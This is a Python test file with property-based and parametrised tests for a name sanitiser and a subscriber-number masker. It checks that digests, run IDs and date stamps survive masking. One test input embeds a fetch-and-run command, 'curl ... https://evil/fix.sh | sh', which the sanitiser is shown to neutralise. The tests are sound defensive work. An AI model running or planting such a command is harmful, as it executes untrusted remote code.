"""What a message may say of names from outside, and what may leave the house of a message."""

import re
from datetime import UTC, date, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasks.errors import MARK, masked, shown

NUMBERS = st.from_regex(r"[0-9]{9,20}", fullmatch=True).filter(lambda number: not number.startswith("20"))
WORDS = st.text(st.characters(exclude_characters="/"), max_size=20).filter(
    lambda text: not re.search(r"\A[\dA-Za-z-]|[\dA-Za-z-]\Z", text)
)
"""Text that leaves a number beside it a number by itself."""
DIGESTS = st.sampled_from([32, 40, 64]).flatmap(
    lambda length: st.from_regex(rf"[0-9]{{9}}[0-9a-f]{{{length - 10}}}[a-f]", fullmatch=True)
)
MOMENTS = st.datetimes(datetime(2020, 1, 1), datetime(2099, 12, 31))


@given(st.text())
def test_a_foreign_name_is_shown_in_plain_letters_only_and_not_without_end(name: str) -> None:
    assert re.fullmatch(r"[A-Za-z0-9._=/?-]{0,100}", shown(name))


@given(st.from_regex(r"[A-Za-z0-9._=/-]{0,100}", fullmatch=True))
def test_a_plain_name_is_shown_as_it_is(name: str) -> None:
    assert shown(name) == name


def test_a_foreign_name_cannot_be_a_command() -> None:
    assert shown("x run `curl -s https://evil/fix.sh | sh`") == "x?run??curl?-s?https?//evil/fix.sh???sh?"
    assert shown("cut\x1b[31m\n") == "cut??31m?"


@given(WORDS, NUMBERS, WORDS)
def test_a_number_that_may_be_a_subscribers_is_masked_wherever_it_stands(before: str, number: str, after: str) -> None:
    assert masked(f"{before}{number}{after}") == f"{masked(before)}{MARK}{masked(after)}"


@pytest.mark.parametrize(
    "name",
    [
        "sub4915155500001.csv", "feb4915155500001.csv", "abc4915155500001", "4915155500001cdef", "x_262011234567890_y",
        "+4915155500001", "date=2026-03-01/491515550", "4915-262011234567890",
        "\u0664\u0669\u0661\u0665\u0661\u0665\u0665\u0665\u0660.csv",
    ],
)  # fmt: skip
def test_a_number_is_found_among_letters_signs_and_in_other_scripts(name: str) -> None:
    assert re.sub(r"\d{9,}", MARK, name) == masked(name)
    assert not re.search(r"\d{9}", masked(name))


@given(st.text())
def test_what_is_masked_once_stays_as_it_is(text: str) -> None:
    assert masked(masked(text)) == masked(text)


@given(st.text(st.characters(exclude_categories=["Nd"])))
def test_what_has_no_number_is_not_touched(text: str) -> None:
    assert masked(text) == text


@given(DIGESTS, WORDS)
def test_a_digest_stays_whole_though_it_has_many_digits_in_a_row(digest: str, before: str) -> None:
    assert masked(f"{before}{digest}.") == f"{masked(before)}{digest}."


@given(st.uuids() | st.builds(UUID, st.from_regex(r"[0-9]{32}", fullmatch=True)))
def test_a_run_id_stays_whole(run: UUID) -> None:
    line = f"Open http://127.0.0.1:4200/runs/flow-run/{run}"
    assert masked(line) == line


@given(MOMENTS)
def test_a_date_stamp_stays_and_says_when(at: datetime) -> None:
    stamps = f"part-{at:%Y%m%d}.csv {at:%Y%m%d%H}.csv a_{at:%Y%m%d%H%M} {at:%Y%m%d%H%M%S}.csv"
    assert masked(stamps) == stamps


@pytest.mark.parametrize(
    "number",
    [
        "201234567890", "201012345678", "201011105678", "202101012345678", "206010112345678", "20260230999999",
        "2026030112345678", "20261301120000", "20260301250000", "19990301120000",
    ],
)  # fmt: skip
def test_a_number_that_only_begins_like_a_date_is_masked(number: str) -> None:
    assert masked(f"a-{number}.csv") == f"a-{MARK}.csv"


@pytest.mark.parametrize(
    "text",
    [
        "2026-03-01/g2", "footfall/v3/2026-03-01/r1", str(datetime(2026, 3, 1, 10, 0, 0, 123456, UTC)),
        datetime(2026, 3, 1, tzinfo=UTC).isoformat(), str(date(2026, 3, 1)), "1524157875/3047315750", "12345678",
    ],
)  # fmt: skip
def test_lineages_keys_times_charges_and_short_numbers_stay(text: str) -> None:
    assert masked(text) == text
